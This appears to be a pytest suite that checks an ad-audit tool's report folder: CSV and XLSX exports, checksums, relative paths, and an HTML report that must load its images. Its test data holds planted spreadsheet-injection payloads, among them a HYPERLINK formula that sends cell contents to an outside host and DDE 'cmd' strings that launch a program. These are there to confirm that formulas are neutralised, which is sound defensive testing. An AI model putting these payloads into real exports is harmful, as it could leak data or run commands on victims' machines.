"""The demo night's report folder, checked with the programs its readers use.

The default world plants spreadsheet formulas in ad titles and descriptions (=HYPERLINK, +cmd|,
@SUM, -2+3, x;=cmd;x).  LibreOffice converts the CSVs as a user's spreadsheet would open them,
with ``,`` and with Dutch Excel's ``;``; openpyxl reads the cells back.  Chromium opens report.html
from a copy of the folder made elsewhere and every image must load.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import phonenumbers
import pytest

from reports.cells import neutralise

pytestmark = pytest.mark.browser

PLANTED = ('=HYPERLINK("https://www.telnova-support.nl/?c="&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "x;=cmd|' /C calc'!A0;x")  # fmt: skip
CSVS = ("google_ads.csv", "microsoft_advertising.csv", "findings.csv")


@pytest.fixture(scope="module")
def folder(demo) -> Path:
    # the first night: every ad is new then, so each platform gets its full CSV with crops (later nights
    # only send what is new or reopened, and nothing twice)
    return next(p for p in demo.nights[0].run.reports if p.name == "report.html").parent


@pytest.fixture(scope="module")
def moved(folder, tmp_path_factory) -> Path:
    """The report folder copied to another place, the original's evidence store out of reach."""
    target = tmp_path_factory.mktemp("elsewhere") / "night"
    shutil.copytree(folder, target)
    return target


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_the_folder_holds_every_deliverable(folder) -> None:
    names = {p.name for p in folder.iterdir()}
    assert {"findings.csv", "findings.xlsx", "report.html", "summary.txt", "SHA256SUMS", "google_ads.csv",
            "google_ads.zip", "microsoft_advertising.csv", "microsoft_advertising.zip", "evidence"} <= names


def test_paths_inside_are_relative_and_resolve_after_a_move(folder, moved) -> None:
    for p in moved.iterdir():
        if p.suffix in (".csv", ".html", ".txt") or p.name == "SHA256SUMS":
            text = p.read_text(encoding="utf-8-sig")
            assert str(folder) not in text and str(folder.parent.parent) not in text, p.name
    for line in (moved / "SHA256SUMS").read_text(encoding="utf-8").splitlines():
        sha, name = line.split("  ", 1)
        assert _sha(moved / name) == sha, name


def test_each_platform_zip_holds_its_csv_the_evidence_it_names_and_sha256sums(folder) -> None:
    import csv
    import io

    for platform in ("google_ads", "microsoft_advertising"):
        with zipfile.ZipFile(folder / f"{platform}.zip") as zf:
            members = {n: zf.read(n) for n in zf.namelist()}
        rows = list(csv.DictReader(io.StringIO(members[f"{platform}.csv"].decode("utf-8-sig"))))
        assert rows, f"{platform}: no ad to report in the demo"
        named = {r[c] for r in rows for c in ("screenshot_file", "screenshot_ad_outlined_file", "ad_crop_file",
                                              "page_html_file") if r[c]}
        assert set(members) == {f"{platform}.csv", "SHA256SUMS", *named}
        sums = dict(reversed(line.split("  ", 1)) for line in members["SHA256SUMS"].decode().splitlines())
        assert set(sums) == set(members) - {"SHA256SUMS"}
        for name, sha in sums.items():
            assert hashlib.sha256(members[name]).hexdigest() == sha, name
        assert all(r["ad_crop_file"] for r in rows)  # every ad, even one whose number is on its landing page only
        for r in rows:  # the crop shipped is the one the crawl recorded
            assert hashlib.sha256(members[r["ad_crop_file"]]).hexdigest() == r["ad_crop_sha256"]
            outlined = r["screenshot_ad_outlined_file"]
            assert outlined and hashlib.sha256(members[outlined]).hexdigest() == r["screenshot_ad_outlined_sha256"]


def _soffice_to_xlsx(csvs: list[Path], out: Path, delimiter: str) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice (soffice) is not installed: `make test` installs libreoffice-calc-nogui")
    profile = out / "profile"  # our own profile: never share a running user's LibreOffice
    cmd = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
           f"--infilter=CSV:{ord(delimiter)},34,76,1", "--convert-to", "xlsx", "--outdir", str(out),
           *map(str, csvs)]  # fmt: skip
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=240, start_new_session=True)
    assert proc.returncode == 0, proc.stderr


@pytest.fixture(scope="module")
def libreoffice(folder, tmp_path_factory) -> dict[str, dict[str, Path]]:
    out: dict[str, dict[str, Path]] = {}
    for delimiter, label in ((",", "comma"), (";", "semicolon")):
        target = tmp_path_factory.mktemp(f"lo-{label}")
        _soffice_to_xlsx([folder / n for n in CSVS], target, delimiter)
        out[label] = {n: target / n.replace(".csv", ".xlsx") for n in CSVS}
    return out


def _cells(xlsx: Path):
    import openpyxl

    ws = openpyxl.load_workbook(xlsx).active
    return ws, [[c for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("delimiter", ["comma", "semicolon"])
def test_libreoffice_evaluates_no_formula(libreoffice, delimiter) -> None:
    seen = set()
    for name, xlsx in libreoffice[delimiter].items():
        _, rows = _cells(xlsx)
        for row in rows:
            for c in row:
                assert c.data_type != "f", f"{name} ({delimiter}) {c.coordinate}: formula {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.lstrip().startswith(("=", "+", "-", "@")), (name, c.coordinate, c.value)
                    seen.update(p for p in PLANTED if neutralise(p) in c.value)
    if delimiter == "comma":  # read as written: each planted text is there, inert
        assert seen == set(PLANTED), f"planted texts not found as text: {set(PLANTED) - seen}"


def test_libreoffice_reads_every_phone_cell_as_the_number(libreoffice) -> None:
    checked = 0
    for name, xlsx in libreoffice["comma"].items():
        _, rows = _cells(xlsx)
        header = [c.value for c in rows[0]]
        for row in rows[1:]:
            cell = dict(zip(header, row, strict=False))
            if not cell["phone_tel"].value:  # a lookalike-domain ad may show no number at all
                continue
            e164 = cell["phone_tel"].value.removeprefix("tel:")
            number = phonenumbers.parse(e164)
            for col in ("phone_number", "phone_as_shown"):
                value = cell[col].value
                assert isinstance(value, str), f"{name} {col}: {value!r} became a {type(value).__name__}"
                dialled = value.replace(" ", "").replace("-", "")
                dialled = "+" + dialled[2:] if dialled.startswith("00") else dialled
                assert phonenumbers.parse(dialled, "NL") == number, (name, col, value, e164)
                checked += 1
    assert checked >= 2 * 8


def test_findings_xlsx_has_typed_columns_state_sheets_and_crops(folder, demo) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(folder / "findings.xlsx")
    assert {"open", "reported", "dismissed", "campaigns", "not audited"} <= set(wb.sheetnames)
    ws = wb["open"]
    header = [c.value for c in ws[1]]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(demo.nights[0].run.findings)
    col = {h: i for i, h in enumerate(header)}
    assert all(isinstance(r[col["rank"]], int) for r in rows)
    assert all(r[col["seen (UTC)"]].year >= 2024 for r in rows)  # a real date-time, not text
    titles = [str(r[col["title"]]) for r in rows]
    assert "x;=cmd|' /C calc'!A0;x Pakketpost Express - Pakket Kwijt? App Ons" in titles  # text, as written
    crops = sum(1 for f in demo.nights[0].run.findings if f.get("evidence_path"))
    with zipfile.ZipFile(folder / "findings.xlsx") as zf:  # openpyxl reads images only with Pillow installed
        pictures = sum(zf.read(n).count(b"<xdr:pic>") for n in zf.namelist() if n.startswith("xl/drawings/drawing"))
        media = [n for n in zf.namelist() if n.startswith("xl/media/")]
    # one picture per finding with a crop; identical crops (one ad seen twice) may share one media file
    assert crops and pictures == crops and 0 < len(media) <= crops
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_report_html_from_a_copied_folder_loads_every_image(moved) -> None:
    from playwright.sync_api import sync_playwright

    from crawler.browser import find_chromium

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=find_chromium(os.environ.get("SERPAUDIT_BROWSER_PATH") or None))
        try:
            page = browser.new_page()
            errors: list[str] = []
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.goto((moved / "report.html").as_uri())
            page.wait_for_load_state("load")
            images = page.eval_on_selector_all("img", "is => is.map(i => [i.complete && i.naturalWidth > 0, i.alt])")
            links = page.eval_on_selector_all("a[href^='evidence/']", "as => as.map(a => a.getAttribute('href'))")
            svg = page.locator("#trend + svg polyline").count()
            night = page.locator("#night").inner_text()
        finally:
            browser.close()
    assert images and all(ok for ok, _ in images), images
    assert not errors, errors
    assert links and all((moved / href).is_file() for href in links)
    assert svg == 3 and "NOT audited" in night


def test_the_night_in_words_counts_findings_that_went_gone(demo) -> None:
    import re

    from sandbox import DEFAULT_WORLD_PATH, load_world

    # the world names some findings that are shown no more on night 2 (gone after one audited night)
    named = sum(1 for c in load_world(DEFAULT_WORLD_PATH).lifecycle if c["night"] == 2 and c["status"] == "gone")
    second = next(p for p in demo.nights[1].run.reports if p.name == "summary.txt").read_text(encoding="utf-8")
    said = re.search(r"(\d+) cases? of earlier nights (?:is|are) gone", second)
    assert said, second
    assert named <= int(said.group(1)) <= len(demo.nights[0].run.findings)
    first = next(p for p in demo.nights[0].run.reports if p.name == "summary.txt").read_text(encoding="utf-8")
    assert "gone" not in first  # nothing was there before the first night
